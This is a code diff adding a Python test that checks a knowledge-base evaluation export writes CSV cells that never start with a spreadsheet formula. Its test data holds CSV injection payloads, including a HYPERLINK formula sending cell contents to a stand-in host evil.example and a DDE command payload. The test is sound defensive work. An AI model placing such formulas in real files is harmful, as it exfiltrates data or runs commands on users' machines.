@@ -82,3 +82,24 @@ def test_a_docx_that_unpacks_to_megabytes_of_xml_is_refused_before_it_is_parsed(
     assert time.monotonic() - started < 5
     assert report.status == FAILED and report.error_kind == "too_large"
     assert report.error.id == "kb.error.unpacks_too_large" and list(kbs.search(kb.id, "AAAA")) == []
+
+
+def test_the_evaluation_csv_never_starts_a_cell_with_a_formula():
+    import csv
+    import io
+
+    from qwenchat.knowledge import evaluate as ev
+    from qwenchat.knowledge.evalset import Question
+
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"详情")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+               "\t=1+1", "\r=1+1", "'=1+1", "''两个撇号", "普通的回答"]
+    run = ev.new_run([Question("q1", "问题", "参考")], ev.RunSettings(kb_id=1, kb_name="资料"))
+    for i, text in enumerate(hostile):
+        run.rows.append(ev.Row(id=text, question=text, reference=text, answer=text,
+                               passages=[ev.Passage(text, text, 1.0)], recall_method=""))
+    exported = ev.to_csv(run)
+    for row in list(csv.reader(io.StringIO(exported)))[1:]:
+        for cell in row:
+            assert not cell or cell[0] not in "=+-@\t\r", f"a spreadsheet would run {cell!r}"
+    again = ev.read_csv(exported)
+    assert [r["answer"] for r in again] == hostile and [r["id"] for r in again] == hostile
